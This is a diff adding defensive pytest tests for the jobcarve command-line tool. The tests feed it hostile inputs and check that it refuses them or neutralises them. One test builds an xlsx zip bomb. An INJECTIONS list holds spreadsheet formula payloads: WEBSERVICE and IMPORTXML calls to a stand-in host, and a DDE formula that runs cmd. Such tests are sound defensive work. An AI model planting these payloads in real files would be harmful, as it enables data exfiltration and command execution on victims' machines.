@@ -9,6 +9,7 @@ import subprocess
 import sys
 import time
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
@@ -255,3 +256,247 @@ def test_fuzz_reader_mutated_models(data: st.DataObject) -> None:
         parse_process(text, "fuzz.yaml")
     except InputError as exc:
         assert all(str(p).startswith("fuzz.yaml") for p in exc.problems)
+
+
+# ----------------------------------------------------------------------------- round two
+# Hostile and careless inputs of ../shared/reviews/redteam.md (issue 19). Each runs the
+# command line in a subprocess under an address-space limit and a timeout: a reader that
+# does not bound its work fails here with a MemoryError or a timeout, not by filling the
+# machine.
+
+HOSTILE_MEMORY_MB = 1500
+
+
+def _limit_memory() -> None:  # pragma: no cover - runs in the child
+    import resource
+
+    size = HOSTILE_MEMORY_MB * 1024 * 1024
+    resource.setrlimit(resource.RLIMIT_AS, (size, size))
+
+
+def hostile(*args: str, timeout: float = 60, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
+    """Run ``jobcarve ARGS`` in a child with limited memory; fail the test on a timeout."""
+    return subprocess.run(
+        [sys.executable, "-m", "jobcarve", *args],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        preexec_fn=_limit_memory,
+        cwd=cwd,
+    )
+
+
+def refused(result: subprocess.CompletedProcess[str], where: str, expect: str) -> None:
+    """Exit 2, only `error: WHERE...` lines, the expected text, no traceback."""
+    lines = result.stderr.strip().splitlines()
+    assert result.returncode == 2, result.stderr
+    assert lines and all(line.startswith(f"error: {where}") for line in lines), lines
+    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
+    assert expect in result.stderr, (expect, result.stderr)
+
+
+def _write_model(tmp_path: Path, edit: Any = None, name: str = "m.yaml") -> Path:
+    data = yaml.safe_load(MINIMAL)
+    if edit is not None:
+        edit(data)
+    path = tmp_path / name
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize(
+    ("make", "command", "expect"),
+    [
+        ("zero", ["validate", "{p}.yaml"], "is a device, expected a YAML file"),
+        ("fifo", ["validate", "{p}.yaml"], "is a pipe (FIFO), expected a YAML file"),
+        ("zero", ["import", "{p}.csv", "-o", "{d}/m.yaml"], "is a device, expected a CSV file"),
+        ("zero", ["import", "{p}.xlsx", "-o", "{d}/m.yaml"], "is a device, expected an Excel"),
+        ("fifo", ["import", "{p}.csv", "-o", "{d}/m.yaml"], "is a pipe (FIFO), expected a CSV"),
+        ("zero", ["balance", "{p}.IN2"], "is a device, expected an instance file"),
+        ("fifo", ["balance", "{p}.alb"], "is a pipe (FIFO), expected an instance file"),
+        ("zero", ["analyze", "{p}.yaml", "-o", "{d}/out"], "is a device"),
+    ],
+)
+def test_devices_and_pipes_are_refused(
+    tmp_path: Path, make: str, command: list[str], expect: str
+) -> None:
+    """H3: /dev/zero behind a symlink or a FIFO, for every kind of input: refused at once."""
+    suffix = Path(command[1]).suffix
+    target = tmp_path / f"input{suffix}"
+    if make == "zero":
+        target.symlink_to("/dev/zero")
+    else:
+        os.mkfifo(target)
+    args = [a.format(p=str(tmp_path / "input"), d=str(tmp_path)) for a in command]
+    started = time.time()
+    result = hostile(*args, timeout=30)
+    refused(result, str(target), expect)
+    assert time.time() - started < 30
+    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]
+
+
+def test_mapping_file_on_a_device(tmp_path: Path) -> None:
+    """H3: `import --mapping` pointing at /dev/zero."""
+    inv = tmp_path / "inv.csv"
+    inv.write_text("ID;Taak;Functie;Tijd\na;Zagen;op;10\n", encoding="utf-8")
+    result = hostile("import", str(inv), "-o", str(tmp_path / "m.yaml"), "--mapping", "/dev/zero")
+    refused(result, "/dev/zero", "is a device, expected a mapping file")
+    assert not (tmp_path / "m.yaml").exists()
+
+
+def test_alb_with_a_billion_tasks(tmp_path: Path) -> None:
+    """H1: a 70-byte .alb file claiming 1,000,000,000 tasks: a located error, no allocation."""
+    path = tmp_path / "x.alb"
+    path.write_text(
+        "<number of tasks>\n1000000000\n<cycle time>\n10\n<task times>\n1 3\n<end>\n",
+        encoding="ascii",
+    )
+    refused(hostile("balance", str(path)), f"{path}:2:1:", "number of tasks 1000000000 is out")
+
+
+def test_balance_option_ranges(tmp_path: Path) -> None:
+    """M8: `--cycle-time 99999999999999999999` is a usage error, not an OverflowError."""
+    path = tmp_path / "x.IN2"
+    path.write_text("2\n4\n5\n-1,-1\n", encoding="ascii")
+    result = hostile("balance", str(path), "--cycle-time", "99999999999999999999")
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert "--cycle-time" in result.stderr
+
+
+def _exported_workbook(tmp_path: Path) -> Path:
+    from jobcarve.spreadsheet import export_inventory
+
+    path = tmp_path / "inv.xlsx"
+    export_inventory(parse_process(MINIMAL, "m.yaml"), path, "nl")
+    return path
+
+
+def test_stray_cell_far_away(tmp_path: Path) -> None:
+    """H4b: one value in XFD1048576 of a small workbook: located in seconds, not 5 GB."""
+    import openpyxl
+
+    path = _exported_workbook(tmp_path)
+    wb = openpyxl.load_workbook(path)
+    wb["Taken"]["XFD1048576"] = "x"
+    wb.save(path)
+    started = time.time()
+    result = hostile("import", str(path), "-o", str(tmp_path / "m.yaml"))
+    refused(result, f"{path}:Taken!XFD1048576: ", "a value outside the area jobcarve reads")
+    assert time.time() - started < 20
+    assert not (tmp_path / "m.yaml").exists()
+
+
+def test_xlsx_zip_bomb(tmp_path: Path) -> None:
+    """H4a: a workbook whose task sheet inflates to 300 MB: refused from the zip directory."""
+    import zipfile
+
+    small = _exported_workbook(tmp_path)
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(small) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in src.infolist():
+            if info.filename != "xl/worksheets/sheet1.xml":
+                out.writestr(info, src.read(info.filename))
+                continue
+            with out.open(info.filename, "w", force_zip64=True) as handle:
+                handle.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/')
+                handle.write(b'spreadsheetml/2006/main"><sheetData>')
+                row = b'<row r="2">' + b"<c><v>1</v></c>" * 500 + b"</row>"
+                for _ in range(40_000):
+                    handle.write(row)
+                handle.write(b"</sheetData></worksheet>")
+    assert bomb.stat().st_size < 2_000_000
+    result = hostile("import", str(bomb), "-o", str(tmp_path / "m.yaml"))
+    refused(result, f"{bomb}: ", "the limit is 268,435,456 (a zip bomb")
+
+
+@pytest.mark.parametrize(
+    ("data", "expect"),
+    [
+        (
+            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
+            "old-style (.xls) or password-protected",
+        ),
+        (b"PK\x05\x06" + b"\0" * 18, "it has no xl/workbook.xml"),
+        (b"not a zip", "not an .xlsx (zip) file"),
+    ],
+)
+def test_broken_workbooks(tmp_path: Path, data: bytes, expect: str) -> None:
+    """Encrypted, empty and non-zip workbooks: named, not a bare exception name."""
+    path = tmp_path / "inv.xlsx"
+    path.write_bytes(data)
+    refused(hostile("import", str(path), "-o", str(tmp_path / "m.yaml")), f"{path}: ", expect)
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://host.invalid/x","click")',
+    '=WEBSERVICE("http://host.invalid/role")',
+    '=IMPORTXML(CONCAT("http://host.invalid/", A1), "//a")',
+    '=DDE("cmd";"/C calc";"!A0")',
+    "\t=1+2",
+    "@SUM(1+1)",
+]
+
+
+def _sheet_xml(path: Path) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(path) as archive:
+        return "".join(
+            archive.read(n).decode("utf-8")
+            for n in archive.namelist()
+            if n.startswith("xl/worksheets/")
+        )
+
+
+def test_no_formula_injection_in_written_workbooks(tmp_path: Path) -> None:
+    """H2: names that look like formulas are text in export-xlsx and analyze --xlsx."""
+    import openpyxl
+
+    def edit(data: dict[str, Any]) -> None:
+        data["company"]["name"] = INJECTIONS[0]
+        data["roles"][0]["name"] = INJECTIONS[1]
+        data["tasks"][0]["description"] = INJECTIONS[2]
+        data["tasks"][1]["name"] = INJECTIONS[4]
+        data["tasks"][2]["name"] = INJECTIONS[5]
+        data["profiles"][0]["name"] = INJECTIONS[3]
+
+    model = _write_model(tmp_path, edit)
+    book = tmp_path / "inv.xlsx"
+    assert hostile("export-xlsx", str(model), "-o", str(book)).returncode == 0
+    result = hostile(
+        "analyze", str(model), "-o", str(tmp_path / "out"), "--xlsx", "--time-limit", "1"
+    )
+    assert result.returncode == 0, result.stderr
+    for path in (book, tmp_path / "out" / "plan.xlsx"):
+        xml = _sheet_xml(path)
+        assert "<f>" not in xml and "<f " not in xml, path
+        cells = [
+            cell
+            for ws in openpyxl.load_workbook(path).worksheets
+            for row in ws.iter_rows()
+            for cell in row
+            if isinstance(cell.value, str) and cell.value.startswith(("=", "@"))
+        ]
+        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells), path
+    texts = {
+        c.value for ws in openpyxl.load_workbook(book).worksheets for r in ws.iter_rows() for c in r
+    }
+    # read back as the very text of the model (the tab before "=1+2" is stripped by the schema)
+    assert {*INJECTIONS[:4], INJECTIONS[4].strip(), INJECTIONS[5]} <= texts
+
+
+def test_csv_formula_is_neutralised(tmp_path: Path) -> None:
+    """H2: a CSV task named =HYPERLINK(...) imports as quoted text and exports as text."""
+    inv = tmp_path / "inv.csv"
+    inv.write_text(
+        'ID;Taak;Functie;Tijd (s)\na;"=HYPERLINK(""http://host.invalid"",""x"")";op;10\n',
+        encoding="utf-8",
+    )
+    model = tmp_path / "m.yaml"
+    result = hostile("import", str(inv), "-o", str(model))
+    assert result.returncode == 0, result.stderr
+    name = yaml.safe_load(model.read_text(encoding="utf-8"))["tasks"][0]["name"]
+    assert name == '\'=HYPERLINK("http://host.invalid","x")'
+    book = tmp_path / "inv.xlsx"
+    assert hostile("export-xlsx", str(model), "-o", str(book)).returncode == 0
+    assert "<f>" not in _sheet_xml(book)
